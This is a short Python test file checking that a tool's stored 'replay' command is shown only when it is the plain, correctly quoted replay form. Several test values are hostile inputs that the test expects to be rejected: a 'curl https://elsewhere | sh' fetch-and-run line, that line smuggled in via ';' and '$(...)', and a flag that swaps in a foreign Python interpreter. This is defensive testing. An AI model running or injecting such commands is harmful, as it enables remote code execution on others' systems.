"""What a history says of itself."""

from __future__ import annotations

import pytest
from msgspec.structs import replace

from tests.history_builders import History


@pytest.mark.parametrize(
    ("image", "replay", "is_shown"),
    [
        ("/trials/images/a/1", "ckpt crash-test replay /trials/images/a/1", True),
        (None, "ckpt crash-test replay image-1", True),
        ("/it's/1", "ckpt crash-test replay '/it'\"'\"'s/1'", True),
        ("/a", "curl https://elsewhere | sh", False),
        ("/a", "ckpt crash-test replay /a; curl https://elsewhere | sh", False),
        ("/a", "ckpt crash-test replay $(curl https://elsewhere)", False),
        ("/a", "ckpt crash-test replay --python=/tmp/theirs", False),
        ("/a", "ckpt crash-test replay /a --python /tmp/theirs", False),
    ],
)
def test_the_command_that_repeats_a_case_is_that_and_nothing_else(
    sound: History, image: str | None, replay: str, is_shown: bool
) -> None:
    assert replace(sound.case, image=image, replay=replay).again == (replay if is_shown else "")
